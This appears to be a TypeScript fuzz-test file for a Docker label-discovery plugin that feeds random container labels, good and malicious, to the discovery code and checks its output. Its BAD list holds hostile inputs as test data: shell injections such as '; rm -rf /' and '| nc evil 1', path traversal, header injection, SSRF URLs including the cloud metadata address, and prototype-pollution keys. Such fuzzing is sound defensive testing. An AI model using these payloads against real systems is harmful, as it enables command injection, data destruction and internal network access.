/** Labels of bad will, from a seed. */
import type { ContainerView, DiscoveryRules } from "../../plugins/docker/discovery/contract.ts";
import { discover } from "../../plugins/docker/discovery/discover.ts";
import { type Random, seeded } from "../simulation/random.ts";
import { container, RULES } from "./discovered.ts";
import { judge } from "./label-judge.ts";

const SECRET = "hunter2-of-the-fuzz";

const OWN = [
  ...[
    "enable",
    "exclude",
    "name",
    "url",
    "scheme",
    "port",
    "path",
    "check",
    "interval",
    "timeout",
    "failures",
  ],
  ...[
    "start-period",
    "depends-on",
    "group",
    "display-name",
    "action",
    "stop-timeout",
    "command",
    "__proto__",
  ],
].map((label) => `watchdog.${label}`);
const OTHERS = [
  ...["autoheal", "autoheal.stop.timeout", "autoheal.action", "autoheal.notify", "autoheal.monitor.enable"],
  ...[
    "autoheal.restart.enable",
    "deunhealth.restart.on.unhealthy",
    "spreadpilot",
    "monitoring.id",
    "heal-me",
  ],
  ...["com.monitor.depends.on", "homepage.name", "homepage.group", "dev.dozzle.name", "dev.dozzle.group"],
  ...["com.docker.compose.project", "com.docker.compose.service", "com.docker.compose.container-number"],
  ...["com.docker.compose.depends_on", "com.docker.compose.oneoff", "com.docker.swarm.task.id"],
  ...["kuma.a.http.url", "kuma.__proto__.http.url", "kuma.constructor.http.method", "kuma.a.http.headers"],
  ...[
    "path",
    "port",
    "scheme",
    "interval",
    "timeout",
    "status",
    "hostname",
    "headers.Host",
    "method",
    "mode",
  ].map((key) => `traefik.http.services.a.loadbalancer.healthcheck.${key}`),
  ...[
    "traefik.http.services.__proto__.loadbalancer.healthcheck.path",
    "__proto__",
    "constructor",
    "toString",
  ],
  ...[
    "traefik.http.services.a.loadbalancer.server.port",
    "prototype",
    "hasOwnProperty",
    "",
    "\n",
    "a\u0000b",
  ],
];
const LABELS = [...OWN, ...OWN, ...OTHERS];

/** Names of Docker's grammar: those that a URL takes for an address too. */
const NAMES = [
  "web",
  "db",
  "my_app.1",
  "constructor",
  "toString",
  "127.1",
  "2130706433",
  "0x7f.1",
  "Shop-Web-1",
];

const GOOD = [
  ...[
    "true",
    "false",
    "True",
    "yes",
    "0",
    "all",
    "http",
    "https",
    "tcp",
    "docker",
    "restart",
    "stop",
    "notify",
    "none",
  ],
  ...[
    "80",
    "8080/tcp",
    "15",
    "10s",
    "500ms",
    "1m30s",
    "1d",
    "3",
    "/health",
    "health?x=1",
    "web",
    "db,web",
    "Shop Web",
  ],
  ...[
    "http://web:8080/health",
    "tcp://web:6379",
    "https://web-alias/",
    "http://172.20.0.2/",
    "http://[fd00:20::2]:1/",
  ],
  ...["db:service_healthy:true,web:service_started:false", "200", "204", "GET", "shop", "1", "2", "my_app.1"],
];
const BAD = [
  ...[
    "$(reboot)",
    "`reboot`",
    "; rm -rf /",
    "| nc evil 1",
    "&& reboot",
    "> /etc/passwd",
    "'\"$IFS",
    "--privileged",
  ],
  ...["-v=/:/host", "web --force", "web;reboot", "../../etc/passwd", "%2e%2e%2f", "$HOST", "{{.Env}}", "\\"],
  ...[
    "\u0000",
    "web\u0000",
    "\n",
    "web\nHost: evil",
    "\r\n\r\nGET /",
    "\t",
    "\u202egnp.exe",
    "\ufeff",
    "ﬀ",
    "ＷＥＢ",
    "💥",
  ],
  ...[
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "[object Object]",
    "NaN",
    "Infinity",
    "-1",
    "1e9",
    "0x10",
  ],
  ...[
    "99999999999999999999",
    "1".repeat(400),
    "x".repeat(70_000),
    ",".repeat(5000),
    "a,".repeat(3000),
    "9".repeat(9),
  ],
  ...[
    "http://evil.example/",
    `http://web:${SECRET}@evil/`,
    `http://u:${SECRET}@web/`,
    "http://web@evil",
    "http:web",
  ],
  ...[
    "http://web.evil/",
    "http://web./",
    "http://evil#@web/",
    "http://evil\\@web/",
    "//evil/",
    "http:///evil/",
  ],
  ...[
    "http://127.0.0.1/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.1/",
    "http://127.1/",
    "http://[::]/",
  ],
  ...[
    "http://[::ffff:7f00:1]/",
    "http://[fd00:20::2%25eth0]/",
    "http://169.254.169.254/latest",
    "http://wеb/",
  ],
  ...[
    "http://xn--wb-ola/",
    "http://web。evil/",
    "http://w%65b/",
    "http://web:80:80/",
    "http://web\t.evil/",
    "file:///",
  ],
  ...[
    "javascript:alert(1)",
    "unix:///var/run/docker.sock",
    "tcp://evil:1",
    "data:,",
    "gopher://web/",
    "HTTP://WEB/",
  ],
];
const NASTY = [
  "\u0000",
  "\n",
  "\t",
  " ",
  "@",
  "\\",
  "%",
  "#",
  "/",
  ":",
  ".",
  "[",
  "$",
  "`",
  "'",
  '"',
  ";",
  "\u202e",
  "é",
];

/** By the end of the label: what it takes, so that most of a set is right and one label of it is not. */
const FITTING: readonly [end: string, value: string][] = [
  ...Object.entries({
    enable: "true",
    exclude: "no",
    name: "front",
    scheme: "https",
    port: "9000",
    path: "/up",
  }),
  ...Object.entries({ check: "tcp", interval: "10s", timeout: "2s", failures: "2", "start-period": "1m" }),
  ...Object.entries({ "depends-on": "db", "depends.on": "db,web", depends_on: "db:x:y", group: "Shop" }),
  ...Object.entries({
    action: "stop",
    "stop-timeout": "20",
    "stop.timeout": "20",
    unhealthy: "1",
    autoheal: "1",
  }),
  ...Object.entries({
    "kuma.a.http.url": "http://web:8080/k",
    url: "http://172.20.0.2:8080/up",
    status: "204",
  }),
];

function fitting(label: string): string | undefined {
  return FITTING.find(([end]) => label.endsWith(end))?.[1];
}

function valueFrom(random: Random): string {
  const value = random.pick(random.chance(0.6) ? GOOD : BAD);
  if (random.chance(0.75) || value.includes(SECRET)) return value;
  if (random.chance(0.3)) return value + random.pick(random.chance(0.5) ? GOOD : BAD);
  const at = Math.floor(random() * (value.length + 1));
  return value.slice(0, at) + random.pick(NASTY) + value.slice(random.chance(0.5) ? at : at + 1);
}

function labelsOf(random: Random): Record<string, string> {
  const count = 1 + Math.floor(random() * 5);
  const labels = Array.from({ length: count }, (): [string, string] => {
    const name = random.pick(LABELS);
    const value = (random.chance(0.6) && fitting(name)) || valueFrom(random);
    return [random.chance(0.02) ? name + random.pick(NASTY) : name, value];
  });
  // Own properties, `__proto__` too, as `JSON.parse` makes them.
  if (random.chance(0.8)) labels.unshift(["watchdog.enable", "true"]);
  return Object.fromEntries(labels);
}

function viewsOf(random: Random): ContainerView[] {
  const names = NAMES.filter(() => random.chance(0.4));
  return names.map((name, at) => {
    const inside = random.chance(0.1) && at > 0 ? `container:${names[0]}` : "";
    const networkMode =
      inside || random.pick(["shop_default", "shop_default", "shop_default", "host", "none"]);
    return container(name, {
      labels: labelsOf(random),
      hasHealthcheck: random.chance(0.5),
      networkMode,
      ...(networkMode === "shop_default" ? {} : { networks: [] }),
      exposedPorts: random.pick([["8080/tcp"], ["53/udp", "9000/tcp"], [], ["x", "70000/tcp"]]),
      publishedPorts: random.pick([[], [], ["3000/tcp"]]),
    });
  });
}

const rulesOf = (random: Random): DiscoveryRules => ({
  ...RULES,
  label: random.pick(["autoheal", "autoheal", "heal-me", "all", "__proto__"]),
  onlyRunning: random.chance(0.2),
  listed: random.chance(0.3) ? ["shop"] : [],
});

/** Plays so many label sets; says how many became services, services with a URL, and so on. */
export function fuzz(sets: number, seed: number) {
  const random = seeded(seed);
  const count = { services: 0, urls: 0, refused: 0, ignored: 0 };
  for (let played = 0; played < sets; ) {
    const views = viewsOf(random);
    const rules = rulesOf(random);
    const found = discover(views, rules);
    try {
      judge(found, views, rules.listed);
    } catch (error) {
      const labels = JSON.stringify(views.map((view) => ({ ...view, networks: undefined }))).slice(0, 4000);
      throw new Error(`seed ${seed}, label sets ${played} and on: ${labels}`, { cause: error });
    }
    played += views.length;
    for (const one of found) {
      count[one.kind === "service" ? "services" : one.kind]++;
      if (one.kind === "service" && one.settings.url) count.urls++;
    }
  }
  return count;
}
